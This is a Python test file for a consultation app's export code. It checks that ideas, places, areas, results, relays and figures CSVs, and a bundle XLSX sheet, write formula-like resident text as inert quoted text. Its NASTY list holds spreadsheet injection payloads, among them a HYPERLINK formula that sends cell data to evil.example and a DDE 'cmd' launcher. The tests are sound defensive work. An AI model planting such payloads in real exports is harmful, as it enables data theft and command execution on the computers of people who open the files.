"""Residents' text in every export comes out inert in a spreadsheet (issue 23): ideas CSV
(published and staff's), places/Decidim CSV, areas CSV, results CSV, relays.csv, figures, and
`bundle sheet`'s XLSX — opened with csv and openpyxl as a spreadsheet program would, no cell
starts a formula. One writer does it (server/tabular.py); a test fails when a second appears."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
import shutil
from pathlib import Path

from app.paths import DEMO_BUNDLE_DIR
from server import relay
from server.admin import export
from server.routes.dashboard import figures_csv
from server.db import sha256
from server.exports import areas_csv, decidim_csv
from server.room import export_relays
from server.sheets import bundle_to_sheet
from server.tabular import FORMULA_START

ROOT = Path(__file__).resolve().parents[2]
NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Voir")', "=cmd|' /C calc'!A0", "+1+2",
         "-3+cmd", "@SUM(A1)", "\t=1", "\r=1"]


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START)]


def test_every_csv_export_writes_formulas_as_text(hub, tablet, pending, tmp_path):
    from tests.unit.test_server_places import mapped_data
    folder = tmp_path / "bundle"
    shutil.copytree(DEMO_BUNDLE_DIR, folder)
    (folder / "bundle.json").write_text(json.dumps(mapped_data()), encoding="utf-8")
    demo = hub.import_bundle(folder)
    store, device = tablet(hub)
    for i, nasty in enumerate(NASTY):
        idea = store.submit_proposal(demo, title=nasty, text=nasty + " texte",
                                     place={"area": "menton"})
        store.moderate_proposal(idea.id, "approved")
    hub.ingest(device, pending(store))
    code = hub.make_enrollment_code(device["site_id"], kind="relay")["code"]
    hub.enroll(code, "room-1", sha256("relay secret"), name=NASTY[1], kind="relay")
    exports = {
        "ideas": export(hub, "ideas", demo.id, "csv"),
        "ideas --all": export(hub, "ideas", demo.id, "csv", all_ideas=True),
        "results": export(hub, "results", demo.id, "csv"),
        "places (Decidim)": decidim_csv(hub, demo.id),
        "areas": areas_csv(hub, demo.id),
        "relays": export_relays(hub, "csv"),
        "figures": figures_csv([{"consultation_id": NASTY[0], "site_id": NASTY[2]}]),
    }
    assert any(n.strip() in exports["ideas"] for n in NASTY)
    for name, text in exports.items():
        assert not formula_cells(text), (name, formula_cells(text)[:3])
    # The text itself is all there, behind its quote.
    published = [row["title"] for row in csv.DictReader(io.StringIO(exports["ideas"]))]
    assert len(published) == len(NASTY)
    assert "'" + NASTY[0] in published
    relays = list(csv.DictReader(io.StringIO(exports["relays"])))
    assert relays[0]["name"] == "'" + NASTY[1]


def test_bundle_sheet_writes_formulas_as_text_cells(tmp_path):
    from openpyxl import load_workbook
    data = json.loads((DEMO_BUNDLE_DIR / "bundle.json").read_text(encoding="utf-8"))
    data = copy.deepcopy(data)
    data["consultation"]["title"]["fr"] = NASTY[0]
    data["consultation"]["questions"][0]["prompt"]["fr"] = NASTY[1]
    folder = tmp_path / "bundle"
    shutil.copytree(DEMO_BUNDLE_DIR, folder)
    (folder / "bundle.json").write_text(json.dumps(data), encoding="utf-8")
    bundle_to_sheet(folder, tmp_path / "sheet.xlsx")
    book = load_workbook(tmp_path / "sheet.xlsx")
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    assert NASTY[0] in texts and NASTY[1] in texts         # unchanged, as text


def test_one_writer_for_every_table():
    """A CSV writer or an XLSX cell written elsewhere than server/tabular.py would skip the
    formula rule."""
    found = []
    for path in list((ROOT / "server").rglob("*.py")) + list((ROOT / "app").rglob("*.py")):
        if path.name == "tabular.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\bws\.cell\([^)]*value=", text):
            found.append(path.relative_to(ROOT).as_posix())
    assert found == []
